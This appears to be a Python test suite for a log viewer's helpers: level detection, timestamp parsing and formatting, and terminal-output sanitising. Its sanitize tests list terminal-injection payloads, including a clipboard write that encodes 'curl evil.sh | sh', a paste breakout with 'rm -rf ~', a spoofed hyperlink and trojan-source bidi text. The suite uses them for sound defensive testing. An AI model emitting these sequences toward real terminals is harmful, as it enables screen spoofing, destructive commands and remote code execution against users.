"""Specification of the text helpers: levels, timestamps and terminal safety."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logview.model import Level
from logview.text import (
    _SGR_RE,
    _TS_RE,
    _detect,
    _from_match,
    decode_bytes,
    detect_level,
    format_ts,
    parse_level,
    parse_ts,
    sanitize,
    split_leading_ts,
    strip_sgr,
)

FAST = settings(max_examples=200, deadline=None)

# --- parse_level ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "level"),
    [
        ("info", Level.INFO),
        ("INFO", Level.INFO),
        (" Info ", Level.INFO),
        ("warning", Level.WARN),
        ("WARN", Level.WARN),
        ("err", Level.ERROR),
        ("Error", Level.ERROR),
        ("fatal", Level.FATAL),
        ("CRITICAL", Level.FATAL),
        ("panic", Level.FATAL),
        ("debug", Level.DEBUG),
        ("trace", Level.TRACE),
    ],
)
def test_parse_level_folds_case_and_aliases(name: str, level: Level) -> None:
    assert parse_level(name) is level


@pytest.mark.parametrize("name", ["stdout", "stderr", "STDERR"])
def test_parse_level_treats_stream_names_as_no_level(name: str) -> None:
    assert parse_level(name) is None


@pytest.mark.parametrize("name", [None, "", "   ", "loud", "30", "information please"])
def test_parse_level_returns_none_for_unknown_names(name: str | None) -> None:
    assert parse_level(name) is None


# --- detect_level ---------------------------------------------------------------

TRACING = "2024-12-22T07:01:09.075717Z  INFO dbsp_adapters::controller: Pipeline initialized"
TRACING_ANSI = (
    "\x1b[2m2024-12-22T07:01:09.075717Z\x1b[0m \x1b[32m INFO\x1b[0m "
    "\x1b[2mdbsp_adapters::controller\x1b[0m\x1b[2m:\x1b[0m Pipeline initialized"
)


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("ERROR upload failed", Level.ERROR),
        ("[warn] queue depth 40", Level.WARN),
        ("[ERROR] upload failed", Level.ERROR),
        ("<error> upload failed", Level.ERROR),
        ("level=error msg=boom", Level.ERROR),
        ('time=2024-01-01T00:00:00Z level="warn" msg=slow', Level.WARN),
        ("lvl=warn msg=slow", Level.WARN),
        ('{"level":"error","msg":"boom"}', Level.ERROR),
        ('{"level": "warning", "msg": "slow"}', Level.WARN),
        ('{"msg": "boom", "severity":"ERROR"}', Level.ERROR),
        ('{"level":50,"msg":"boom"}', Level.ERROR),
        ("{'level': 'debug', 'msg': 'x'}", Level.DEBUG),
        ("WARNING:root:disk almost full", Level.WARN),
        ("2024-01-01 10:00:00,123 - app - ERROR - upload failed", Level.ERROR),
        ("2024-01-01 10:00:00.123 | WARNING  | app.mod:run:12 - slow", Level.WARN),
        (TRACING, Level.INFO),
        (TRACING_ANSI, Level.INFO),
        ("\x1b[31mERROR\x1b[0m upload failed", Level.ERROR),
        ("E1123 10:00:00.123456    1234 server.go:88] listen failed", Level.ERROR),
        ("W1123 10:00:00.123456    1234 server.go:88] slow", Level.WARN),
        ("I1123 10:00:00.123456    1234 server.go:88] started", Level.INFO),
        ("2024/01/01 10:00:00 [error] 17#0: *1 connect() failed", Level.ERROR),
        ("Warning: deprecated option used", Level.WARN),
        ("error: could not compile `app`", Level.ERROR),
        ("info: listening on :8080", Level.INFO),
        ("panic: runtime error: index out of range", Level.FATAL),
        ("npm ERR! code E404", Level.ERROR),
        ('ERRO[0003] upload failed  error="reset"', Level.ERROR),
        ('Traceback (most recent call last):\n  File "x.py", line 1', Level.ERROR),
    ],
)
def test_detect_level_recognises_common_logger_formats(text: str, level: Level) -> None:
    assert detect_level(text) is level


@pytest.mark.parametrize(
    "text",
    [
        "no error found",
        "errors: 0",
        "warnings: 3, errors: 0",
        "Error rate is 0.1%",
        "Critical section entered",
        "The panic button was not pressed",
        "DEBUG=1 python app.py",
        "value=INF after overflow",
        "ERRORS_TOTAL 0",
        "xERROR y",
        "GET /health 200 3ms",
        "an error: maybe",
        "ALERT: text in capitals means nothing by itself",
        "",
    ],
)
def test_detect_level_ignores_prose_and_lookalikes(text: str) -> None:
    assert detect_level(text) is None


def test_detect_level_reads_only_the_first_200_characters() -> None:
    assert detect_level("x" * 150 + " ERROR late") is Level.ERROR
    assert detect_level("x" * 200 + " ERROR late") is None


def test_detect_level_prefers_the_token_after_the_timestamp_over_a_field() -> None:
    assert detect_level("2024-01-01T00:00:00Z  INFO app: set level=debug") is Level.INFO


def test_detect_level_prefers_the_level_key_over_capitals_in_the_message() -> None:
    assert detect_level('{"msg": "ERROR in upstream, retrying", "level": "info"}') is Level.INFO


@FAST
@given(st.text(max_size=300))
def test_detect_level_is_total(text: str) -> None:
    assert detect_level(text) in (None, *Level)


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("10:00:00-ERROR x", Level.ERROR),
        ("2024-01-02T10:00:00ZERROR x", Level.ERROR),
        ('"level" : "warn"', Level.WARN),
        ('x "level"\u3000: "warn"', Level.WARN),
        ('{"level":50}', Level.ERROR),
        ("I0102 10:00:00.000 x", Level.INFO),
        ("  error: x", Level.ERROR),
        ("Warning: low disk", Level.WARN),
        ("[12:00:00] <info> x", Level.INFO),
        ("msg lvl=debug", Level.DEBUG),
        ("\x1b[31mERROR\x1b[0m x", Level.ERROR),
        ("E\x1b[0mRROR x", Level.ERROR),
    ],
)
def test_detect_level_finds_the_forms_its_quick_look_must_let_through(text: str, level: Level) -> None:
    assert detect_level(text) is level


# --- parse_ts -------------------------------------------------------------------


def _utc(y: int, mo: int, d: int, h: int = 0, mi: int = 0, s: int = 0, us: int = 0) -> datetime:
    return datetime(y, mo, d, h, mi, s, us, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2024-01-02T03:04:05Z", _utc(2024, 1, 2, 3, 4, 5)),
        ("2024-01-02T03:04:05z", _utc(2024, 1, 2, 3, 4, 5)),
        ("2024-01-02T03:04:05+05:30", _utc(2024, 1, 1, 21, 34, 5)),
        ("2024-01-02T03:04:05+0000", _utc(2024, 1, 2, 3, 4, 5)),
        ("2024-01-02T03:04:05-0700", _utc(2024, 1, 2, 10, 4, 5)),
        ("2025-09-19T12:16:10.599608", _utc(2025, 9, 19, 12, 16, 10, 599608)),
        ("2026-03-03T10:00:05.123456789Z", _utc(2026, 3, 3, 10, 0, 5, 123456)),
        ("2026-03-03T10:00:05.1Z", _utc(2026, 3, 3, 10, 0, 5, 100000)),
        ("2024-01-01 10:00:00,123", _utc(2024, 1, 1, 10, 0, 0, 123000)),
        ("2024-01-01 10:00:00", _utc(2024, 1, 1, 10, 0, 0)),
        ("2024-01-01", _utc(2024, 1, 1)),
        (" 2024-01-01T10:00:00Z\n", _utc(2024, 1, 1, 10, 0, 0)),
        ("2016-12-31T23:59:60Z", _utc(2017, 1, 1)),
    ],
)
def test_parse_ts_reads_rfc3339_and_iso_forms_as_utc(value: str, expected: datetime) -> None:
    got = parse_ts(value)
    assert got == expected
    assert got is not None and got.tzinfo is UTC


@pytest.mark.parametrize(
    "value",
    [
        None,
        "",
        "garbage",
        "2026-06-01T12:05:04Z/000000000042",
        "2024-13-01T00:00:00Z",
        "2024-02-30",
        "2024-01-01T25:00:00Z",
        "2024-01-01T10:00:00+24:00",
        "2024-01-01T10:00:00+05:99",
        "20240101",
        "1718000000",
        "2024-W01-1",
        "２０２４-01-01",
        "2024-01-01T10:00:00Z" + "0" * 60,
    ],
)
def test_parse_ts_returns_none_for_non_timestamps(value: str | None) -> None:
    assert parse_ts(value) is None


_OFFSETS = st.integers(min_value=-(23 * 60 + 59), max_value=23 * 60 + 59).map(lambda m: timezone(timedelta(minutes=m)))


@FAST
@given(st.datetimes(min_value=datetime(1970, 1, 2), max_value=datetime(9998, 12, 30)), _OFFSETS)
def test_parse_ts_round_trips_isoformat_with_any_offset(naive: datetime, tz: timezone) -> None:
    dt = naive.replace(tzinfo=tz)
    assert parse_ts(dt.isoformat()) == dt


@FAST
@given(st.text(max_size=80))
def test_parse_ts_is_total_and_always_aware_utc(value: str) -> None:
    got = parse_ts(value)
    assert got is None or got.utcoffset() == timedelta(0)


# --- split_leading_ts / format_ts -------------------------------------------------


def test_split_leading_ts_takes_a_tracing_timestamp_and_the_padding_after_it() -> None:
    assert split_leading_ts("2024-12-22T07:01:09.075717Z  INFO x") == (
        _utc(2024, 12, 22, 7, 1, 9, 75717),
        "INFO x",
    )


def test_split_leading_ts_takes_a_bracketed_timestamp() -> None:
    assert split_leading_ts("[2024-01-01 10:00:00] started") == (_utc(2024, 1, 1, 10), "started")


def test_split_leading_ts_takes_the_colours_wrapped_around_the_timestamp() -> None:
    ts, rest = split_leading_ts(TRACING_ANSI)
    assert ts == _utc(2024, 12, 22, 7, 1, 9, 75717)
    assert rest.startswith("\x1b[32m INFO\x1b[0m ")


def test_split_leading_ts_keeps_a_colour_opened_before_the_timestamp() -> None:
    assert split_leading_ts("\x1b[31m2024-01-01T10:00:00Z boom\x1b[0m") == (
        _utc(2024, 1, 1, 10),
        "\x1b[31mboom\x1b[0m",
    )


@pytest.mark.parametrize(
    "text",
    [
        "started at 2024-01-01T10:00:00Z",
        " 2024-01-01T10:00:00Z late",
        "2024-01-01 backup finished",
        "2026-06-01T12:05:04Z/000000000042",
        "[2024-01-01T10:00:00Z unclosed",
        "2024-01-01T10:00:00Zulu",
        "2024-13-01T10:00:00Z bad month",
        "",
    ],
)
def test_split_leading_ts_leaves_text_without_a_leading_timestamp_alone(text: str) -> None:
    assert split_leading_ts(text) == (None, text)


@FAST
@given(st.text(max_size=80))
def test_split_leading_ts_is_total(text: str) -> None:
    ts, rest = split_leading_ts(text)
    assert (ts is None and rest == text) or (ts is not None and ts.tzinfo is UTC and len(rest) < len(text))


def test_format_ts_writes_utc_with_z_and_microseconds_only_when_set() -> None:
    assert format_ts(datetime(2024, 1, 2, 8, 4, 5, tzinfo=timezone(timedelta(hours=5)))) == "2024-01-02T03:04:05Z"
    assert format_ts(_utc(2024, 1, 2, 3, 4, 5, 120)) == "2024-01-02T03:04:05.000120Z"


def test_format_ts_takes_a_naive_datetime_as_utc() -> None:
    assert format_ts(datetime(2024, 1, 2, 3, 4, 5)) == "2024-01-02T03:04:05Z"


@FAST
@given(st.datetimes(timezones=st.just(UTC)))
def test_format_ts_output_parses_back_to_the_same_instant(dt: datetime) -> None:
    assert parse_ts(format_ts(dt)) == dt


# --- sanitize -------------------------------------------------------------------

_VALID_SGR = re.compile(r"\x1b\[[0-9;:]*m")
_BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def assert_terminal_safe(out: str) -> None:
    """Nothing a terminal would act on except SGR: the property sanitize promises."""
    for i, ch in enumerate(out):
        o = ord(ch)
        if ch == "\x1b":
            assert _VALID_SGR.match(out, i), f"ESC not starting an SGR at {i}: {out!r}"
        elif o < 0x20:
            assert ch in "\t\n", f"C0 control U+{o:04X} at {i}: {out!r}"
        assert o != 0x7F, f"DEL at {i}: {out!r}"
        assert not 0x80 <= o <= 0x9F, f"C1 control U+{o:04X} at {i}: {out!r}"
        assert ch not in _BIDI, f"bidi control U+{o:04X} at {i}: {out!r}"
        assert not 0xD800 <= o <= 0xDFFF, f"lone surrogate at {i}: {out!r}"
    out.encode("utf-8")


# Known terminal-injection payloads (cursor, erase, title, clipboard, links,
# device strings, paste toggles, 8-bit controls, trojan-source bidi).
INJECTIONS = {
    "cursor-home-erase": "\x1b[H\x1b[2Jfake prompt $ ",
    "cursor-up-overwrite": "ok\x1b[1A\x1b[2Kreplaced line",
    "erase-line": "secret\r\x1b[Kvisible",
    "title-osc0": "\x1b]0;pwned\x07",
    "title-osc2-st": "\x1b]2;pwned\x1b\\",
    "clipboard-osc52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink-osc8": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "dcs-decrqss": "\x1bP$q m\x1b\\",
    "dcs-sixel": "\x1bPq#0;2;0;0;0~~\x1b\\",
    "apc": "\x1b_Gf=100;payload\x1b\\",
    "pm": "\x1b^privacy message\x1b\\",
    "sos": "\x1bXstart of string\x1b\\",
    "bracketed-paste-on": "\x1b[?2004h",
    "bracketed-paste-end-marker": "\x1b[201~rm -rf ~\n",
    "alt-screen": "\x1b[?1049h",
    "mouse-tracking": "\x1b[?1000h\x1b[?1006h",
    "device-status-report": "\x1b[6n",
    "window-ops": "\x1b[21t\x1b[8;1;1t",
    "keypad-mode": "\x1b=\x1b>",
    "charset-switch": "\x1b(0lqqk\x1b(B",
    "reset-terminal": "\x1bc",
    "save-restore-cursor": "\x1b7moved\x1b8",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;title\x9c",
    "c1-dcs": "\x90q\x9c",
    "c1-nel": "a\x85b",
    "bell": "ding\x07",
    "backspace-overwrite": "password: hunter2\x08\x08\x08\x08\x08\x08\x08*******",
    "nul-del": "a\x00b\x7fc",
    "form-feed-vt": "a\x0cb\x0bc",
    "lone-cr": "progress 10%\rprogress 100%",
    "bidi-rlo": "access_level != \u202e \u2066// check if admin\u2069 \u2066",
    "bidi-marks": "\u200eleft\u200fright\u061c",
    "sgr-with-injected-esc": "\x1b[31\x1b[2Jm",
    "sgr-unterminated": "\x1b[31",
    "esc-at-end": "text\x1b",
    "csi-private-sgr-lookalike": "\x1b[>4;2m",
    "csi-intermediate-sgr-lookalike": "\x1b[1 m",
    "lone-surrogate": "bad \ud800 text",
    "line-separator": "a\u2028b\u2029c",
}


@pytest.mark.parametrize("payload", list(INJECTIONS.values()), ids=list(INJECTIONS))
def test_sanitize_defuses_known_terminal_injections(payload: str) -> None:
    out = sanitize(payload)
    assert_terminal_safe(out)
    assert out != payload


_NASTY = st.sampled_from(
    [
        "\x1b",
        "\x1b[",
        "\x1b]",
        "\x1bP",
        "\x1b\\",
        "\x07",
        "\x9b",
        "\x9c",
        "\x9d",
        "\r",
        "\r\n",
        "\n",
        "\t",
        "\x00",
        "\x7f",
        "\x85",
        "\u202e",
        "\u2066",
        "\u200f",
        "\ud800",
        "m",
        ";",
        "31",
        "0",
        "[",
        "?2004h",
        "\x1b[0m",
        "\x1b[1;31m",
        "\x1b[38:5:1m",
    ]
)
_HOSTILE_TEXT = st.lists(st.one_of(_NASTY, st.text(max_size=4)), max_size=40).map("".join)


@FAST
@given(st.one_of(_HOSTILE_TEXT, st.text(max_size=200)))
def test_sanitize_output_never_holds_anything_a_terminal_acts_on_but_sgr(text: str) -> None:
    assert_terminal_safe(sanitize(text))


@FAST
@given(_HOSTILE_TEXT)
def test_sanitize_is_idempotent(text: str) -> None:
    once = sanitize(text)
    assert sanitize(once) == once


def test_sanitize_keeps_sgr_colours_as_they_are() -> None:
    text = "\x1b[1;31mERROR\x1b[0m \x1b[38;5;208mhot\x1b[m \x1b[38:2::255:0:0mrgb\x1b[0m"
    assert sanitize(text) is text


def test_sanitize_shows_escapes_visibly() -> None:
    assert sanitize("\x1b[2J\x1b]0;title\x07") == "␛[2J␛]0;title␇"
    assert sanitize("\x9b2J") == "<U+009B>2J"
    assert sanitize("a\u202eb") == "a<U+202E>b"
    assert sanitize("a\x00b\x7f") == "a␀b␡"


def test_sanitize_turns_crlf_into_lf_and_shows_a_lone_cr() -> None:
    assert sanitize("a\r\nb\rc") == "a\nb␍c"


def test_sanitize_keeps_tab_and_newline() -> None:
    assert sanitize("a\tb\nc") == "a\tb\nc"


def test_sanitize_replaces_lone_surrogates_so_the_text_can_be_printed() -> None:
    assert sanitize("a\udcffb") == "a\ufffdb"


@pytest.mark.parametrize(
    "text",
    ["plain ascii line with numbers 123 and punctuation: {x}", "Загрузка — ✓ “quoted” 模型 🚀", "a\tb", "x\u00a0y", ""],
)
def test_sanitize_returns_clean_text_as_the_same_object(text: str) -> None:
    assert sanitize(text) is text


# --- strip_sgr / decode_bytes -------------------------------------------------------


def test_strip_sgr_removes_only_colour_sequences() -> None:
    assert strip_sgr("\x1b[31mred\x1b[0m and ␛[2J") == "red and ␛[2J"


def test_decode_bytes_shows_bad_bytes_as_replacement_characters() -> None:
    assert decode_bytes(b"ok \xff\xfe caf\xc3\xa9 \xe2\x82") == "ok \ufffd\ufffd café \ufffd"


@FAST
@given(st.binary(max_size=200))
def test_decode_bytes_is_total(data: bytes) -> None:
    assert isinstance(decode_bytes(data), str)


_COMMON_TS = st.builds(
    lambda y, mo, d, h, mi, s, frac: f"{y:04d}-{mo:02d}-{d:02d}T{h:02d}:{mi:02d}:{s:02d}.{frac}Z",
    st.integers(0, 9999),
    st.integers(0, 13),
    st.integers(0, 32),
    st.integers(0, 25),
    st.integers(0, 61),
    st.integers(0, 61),
    st.text("0123456789", min_size=1, max_size=12),
)


_TS_BITS = st.sampled_from([*"0123456789-T:.Zz +/,t\u0663", "60", "2026-11-23", "T17:02:36", ".281077"])
"""Pieces of timestamps, and what breaks them, to build near misses of the fast path's form."""


@given(
    st.one_of(
        _COMMON_TS,
        _COMMON_TS.map(lambda v: v.replace(".", ".\u0661", 1)),
        st.from_regex(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d*Z?", fullmatch=True),
        st.lists(_TS_BITS, max_size=12).map("".join),
    )
)
def test_parse_ts_fast_path_agrees_with_the_full_parser(value: str) -> None:
    m = _TS_RE.fullmatch(value.strip()) if len(value) <= 64 else None
    assert parse_ts(value) == (_from_match(m) if m else None)


_LOWER = st.text(st.characters(exclude_categories=["Cs", "Lu", "Lt"]), max_size=80)
_LEVEL_BITS = st.sampled_from(
    [
        *("error", "ERROR", "Error", "ERRO", "ERR", "warn", "WARNING", "info", "INFO", "DBG", "FTL", "panic"),
        *("Trace", "TRACE", "notice", "Critical", "fatal", "level", "LEVEL", "lvl", "severity", "ſeverity", "@l"),
        *("'", '"', ":", "=", " ", "\t", "\u3000", "\x1c", "[", "]", "<", ">", "{", ",", "|", "-", ".", "/", "!"),
        *("2024-01-02T10:00:00Z", "10:00:00", "E0102 10:00:00", "I0102", "Traceback (most recent call last):"),
        *("\x1b[31m", "\x1b[0m", "x", "GPU", "POST", "30", "50", "0", "é", "ı", "\ud800"),
    ]
)
"""Pieces of the forms `_detect` reads, and of near misses, to build lines for its shortcut."""


@settings(max_examples=1000, deadline=None)
@given(
    st.one_of(
        _LOWER,
        st.text(max_size=80),
        _LOWER.map(lambda t: "level " + t),
        st.lists(_LEVEL_BITS, max_size=10).map("".join),
    )
)
def test_detect_level_shortcut_never_changes_the_answer(text: str) -> None:
    """Most lines skip the full reading (`_detect`) after a cheap look; that look must never be wrong."""
    head = _SGR_RE.sub("", text[:400])[:200] if "\x1b" in text[:200] else text[:200]
    assert detect_level(text) == _detect(head)
